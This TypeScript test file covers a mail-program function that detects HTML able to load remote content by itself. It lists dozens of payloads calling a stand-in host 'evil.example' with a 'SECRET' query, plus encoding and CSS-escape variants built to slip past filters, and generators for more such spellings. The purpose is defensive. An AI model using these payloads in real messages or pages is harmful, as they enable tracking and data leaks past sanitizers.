import * as fc from 'fast-check';
import { escapeHtml } from '../../../../nodes/shared/html/html';
import { loadsByItself } from '../../../../nodes/shared/html/loads';

const EVIL = 'https://evil.example/?c=SECRET';

describe('What makes a mail program ask another server', () => {
	it.each([
		['img', `<img src="${EVIL}">`],
		['img', `<IMG SRC=${EVIL}>`],
		['img', `<img/src='//evil.example'>`],
		['img', `<img src="&#104;ttps://evil.example">`],
		['img', '<img src=" \n\thttps://evil.example">'],
		['img', '<img src="picture.png">'],
		['img', `<img src="cid:a" srcset="cid:a 1x,${EVIL} 2x">`],
		['img', `<img srcset="${EVIL}">`],
		['img', `<img lowsrc="${EVIL}">`],
		['img', `<img src="${EVIL}`],
		['img', `<img alt="x" src="${EVIL}" src="cid:a">`],
		['td', `<table><td background="${EVIL}">`],
		['body', `<body background=${EVIL}>`],
		['video', `<video poster="${EVIL}">`],
		['video', `<video src="${EVIL}">`],
		['audio', `<audio src="${EVIL}">`],
		['source', `<video><source src="${EVIL}"></video>`],
		['source', `<picture><source srcset="${EVIL}"></picture>`],
		['input', `<input type=image src="${EVIL}">`],
		['iframe', `<iframe src="${EVIL}"></iframe>`],
		['iframe', '<iframe srcdoc="&lt;img src=https://evil.example&gt;"></iframe>'],
		['iframe', '<iframe src="data:image/svg+xml,<image href=https://evil.example/>"></iframe>'],
		['object', `<object data="${EVIL}"></object>`],
		['embed', `<embed src="${EVIL}">`],
		['script', `<script src="${EVIL}"></script>`],
		['link', `<link rel=stylesheet href="${EVIL}">`],
		['link', `<link rel=stylesheet href="data:text/css,@import '${EVIL}'">`],
		['base', `<base href="${EVIL}"><img src="">`],
		['meta', `<meta http-equiv="Refresh" content="0;url=${EVIL}">`],
		['image', `<svg><image href="${EVIL}"/></svg>`],
		['image', `<svg><image xlink:href="${EVIL}"/></svg>`],
		['use', `<svg><use href="${EVIL}#a"/></svg>`],
		['use', '<svg><use href="data:image/svg+xml,<svg id=a>#a"/></svg>'],
		['set', `<svg><image><set attributeName="href" to="${EVIL}"/></image></svg>`],
		['url()', `<svg><rect fill="url(${EVIL})"/></svg>`],
		['v:fill', `<v:rect><v:fill type="frame" src="${EVIL}"/></v:rect>`],
		['onload', `<body onload="fetch('${EVIL}')">`],
		['url()', `<p style="background:url(${EVIL})">`],
		['url()', `<p style='background:URL( "${EVIL}" )'>`],
		['url()', '<p style="background:url(//evil.example)">'],
		['url()', '<p style="background:u\\72l(https://evil.example)">'],
		['url()', '<p style="background:\\75\r\nrl(https://evil.example)">'],
		['url()', '<p style="background:&#117;rl(https://evil.example)">'],
		['url()', '<p style="background:url(\\ //evil.example)">'],
		['image-set()', `<p style="background:image-set('${EVIL}' 1x)">`],
		['-webkit-image-set()', `<p style="background:-webkit-image-set('${EVIL}' 1x)">`],
		['@import', `<style>@import "${EVIL}";</style>`],
		['@import', `<style>@\\69mport "${EVIL}";</style>`],
		['url()', `<style>@font-face{font-family:a;src:url(${EVIL})}</style>`],
		['url()', `<style>p{background:url(cid:a),url(${EVIL})}</style>`],
		['@import', `<svg><style>@&#105;mport "${EVIL}";</style></svg>`],
		['@import', `<svg><style>@im<g/>port "${EVIL}";</style></svg>`],
		['img', `<svg><style><img src="${EVIL}"></style></svg>`],
		['img', `<svg><title><img src="${EVIL}"></title></svg>`],
		['img', `<!--[if mso]><img src="${EVIL}"><![endif]-->`],
		['CDATA', `<svg><![CDATA[> <p title="]]><img src=${EVIL}>">`],
	])('%s: %s', (what, html) => {
		expect(loadsByItself(html)).toBe(what);
	});
});

describe('What loads nothing by itself', () => {
	it.each([
		'',
		'Hello, see https://contoso.com/a.png',
		`<a href="${EVIL}">here</a>`,
		'<a href="https://contoso.com/?q=url(https://a.b)">here</a>',
		'<map><area href="https://contoso.com"></map>',
		'<img src="cid:logo@contoso.com">',
		'<img src="CID:logo"><img src="data:image/png;base64,AA/A==">',
		'<img src="cid:a" srcset="cid:a 1x, cid:b 2x">',
		'<img srcset="cid:a 1x,cid:b 2x">',
		'<img src="" alt="a">',
		'<p style="background:url(cid:a)">x</p>',
		`<p style="background: url( 'data:image/png;base64,AA' ); color: red">x</p>`,
		'<svg><defs><g id="a"/></defs><use href="#a"/><rect fill="url(#b)"/></svg>',
		'<svg><image href="cid:a"/></svg>',
		'<p>Write url(https://a.b) or @import "a" into the sheet; &lt;img src="https://a.b"&gt;</p>',
		'<style>@media print { p { color: red } } a:hover { color: #fff }</style><p>x</p>',
		'<table background=""><tr><td style="background-color:#fff" bgcolor="red">x</td></tr></table>',
		'<meta charset="utf-8"><!-- a comment --><h1>Hello</h1>',
	])('%s', (html) => {
		expect(loadsByItself(html)).toBeUndefined();
	});

	it('any text that is written as text', () => {
		fc.assert(
			fc.property(fc.string({ unit: 'binary' }), (text) => {
				expect(loadsByItself(`<p>${escapeHtml(text)}</p>`)).toBeUndefined();
			}),
		);
	});
});

/** Spellings that programs take for the same. */
const anyCase = (text: string) =>
	fc
		.array(fc.boolean(), { minLength: text.length, maxLength: text.length })
		.map((upper) => [...text].map((sign, at) => (upper[at] ? sign.toUpperCase() : sign)).join(''));
const asReference = (text: string) =>
	fc
		.array(fc.constantFrom('', 'dec', 'hex'), { minLength: text.length, maxLength: text.length })
		.map((forms) =>
			[...text]
				.map((sign, at) => {
					const code = sign.charCodeAt(0);
					if (forms[at] === 'dec') return `&#${code};`;
					return forms[at] === 'hex' ? `&#x${code.toString(16)};` : sign;
				})
				.join(''),
		);
const asEscape = (text: string) =>
	fc
		.array(fc.constantFrom('', ' ', '\n', '\r\n', '0'), {
			minLength: text.length,
			maxLength: text.length,
		})
		.map((ends) =>
			[...text]
				.map((sign, at) => {
					const end = ends[at] ?? '';
					const code = sign.charCodeAt(0).toString(16);
					if (end === '') return sign;
					return end === '0' ? `\\${code.padStart(6, '0')}` : `\\${code}${end}`;
				})
				.join(''),
		);

const address = fc
	.constantFrom('https:', 'http:', '', 'ftp:', 'HTTPS:')
	.map((scheme) => `${scheme}//evil.example/a`);
const blank = fc.constantFrom(' ', '\n', '\t', '/', ' / ', '\f');
const quote = fc.constantFrom('"', "'");
const loading = fc.oneof(
	fc
		.tuple(anyCase('img'), blank, anyCase('src'), quote, address.chain(asReference))
		.map(([name, gap, src, sign, to]) => `<${name}${gap}${src}=${sign}${to}${sign}>`),
	fc
		.tuple(anyCase('background:url').chain(asEscape), address, quote)
		.map(([css, to, sign]) => `<p style=${sign}${css}(${to})${sign}>`),
	fc
		.tuple(asEscape('import'), address)
		.map(([css, to]) => `<style>p{color:red} @${css} "${to}";</style>`),
);
const harmless = fc.constantFrom(
	...['<p>', '</p>', 'text', '<b title="a">', '<!-- a -->', '<table><td>', '&lt;', ' < ', '<br/>'],
	...['<a href="https://a.b">x</a>', '<style>p{color:red}</style>', '<img src="cid:a">'],
);

it('is found in any spelling, wherever it stands in a text', () => {
	fc.assert(
		fc.property(fc.array(harmless), loading, fc.array(harmless), (before, one, after) => {
			expect(loadsByItself([...before, ...after].join(''))).toBeUndefined();
			expect(loadsByItself([...before, one, ...after].join(''))).toBeDefined();
		}),
		{ numRuns: 1_000 },
	);
});
